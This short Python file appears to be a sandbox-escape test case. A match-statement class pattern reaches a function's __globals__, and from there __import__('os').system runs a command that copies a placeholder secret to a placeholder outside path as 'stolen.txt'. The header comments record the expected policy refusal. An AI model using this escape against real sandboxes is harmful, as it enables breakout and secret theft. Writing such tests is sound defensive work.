# SPDX-License-Identifier: GPL-3.0-or-later
# title: A pattern of match reads attributes
# route: case object(__globals__=g)
# policy: refused underscore
# contained: canary writes
# ends: finished raised
import json

match json.dumps:
    case object(__globals__=names):
        names["__builtins__"]["__import__"]("os").system("cat @SECRET@ > @OUTSIDE@/stolen.txt")
